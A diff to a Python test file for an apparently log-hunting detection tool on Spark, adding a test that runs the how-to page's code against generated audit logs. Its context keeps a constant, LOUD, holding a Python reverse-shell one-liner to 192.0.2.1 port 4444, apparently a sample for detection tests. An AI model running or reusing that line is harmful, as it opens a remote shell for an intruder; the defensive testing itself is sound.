@@ -7,11 +7,13 @@ import gzip
 import json
 import lzma
 import os
+import re
 import shutil
 import subprocess
 import sys
 import zipfile
 from collections import Counter
+from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
@@ -24,6 +26,7 @@ from tests.hunt.test_formats import CASES
 pyspark = pytest.importorskip("pyspark")
 pytestmark = pytest.mark.skipif(shutil.which("java") is None, reason="no Java: tools/setup.sh test installs one")
 LOUD = "import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);os.system('/bin/sh')"
+ROOT = Path(__file__).parents[2]
 SPLIT = 1 << 14
 """Bytes from which on Spark cuts a file here."""
 
@@ -195,6 +198,31 @@ def test_parquet_is_parted_by_day_and_has_the_documented_columns(tmp_path, spark
     (file,) = (out / "day=2023-11-14").glob("*.parquet")
     assert parquet.ParquetFile(file).schema_arrow.names == SCHEMA.names
     hunt(path, "--engine", "spark", "-q", "-o", out, "--format", "parquet", code=2)  # nothing is overwritten
+
+
+def test_the_code_of_the_how_to_page_runs(tmp_path, spark):
+    page = (ROOT / "docs/how-to/hunt-on-spark.md").read_text(encoding="utf-8")
+    notebook, mapped, streamed = re.findall(r"```python\n(.*?)```", page, re.DOTALL)
+    arriving = tmp_path / "arriving"
+    arriving.mkdir()
+    found = tmp_path / "found"
+    text = "".join(starts(*[["perl", "-e", f"print {at}"] for at in range(40)]))  # larger than SPLIT
+    names = {"spark": spark, "logs": str(written(tmp_path, text, "audit.log")), "arriving": str(arriving)}
+    names |= {"found_folder": str(found), "state": str(tmp_path / "state")}
+    exec(notebook, names)
+    assert names["found"].count() == 40
+    assert [row["execution"]["argv"][2] for row in names["found"].orderBy("fidelity.line").collect()][:3] == [
+        "print 0",
+        "print 1",
+        "print 2",
+    ]
+    exec(mapped, names)
+    for at in (1, 2):  # the second time, only what has come since
+        written(arriving, text.replace("print", f"print{at}"), f"{at}.log")
+        exec(streamed, names)
+        rows = spark.read.parquet(str(found)).selectExpr("fidelity.log", "fidelity.line").collect()
+        assert len(rows) == 40 * at
+        assert sorted(row["line"] for row in rows if row["log"].endswith(f"/{at}.log")) == list(range(1, 200, 5))
 
 
 def test_what_cannot_be_done_is_refused(tmp_path, spark):
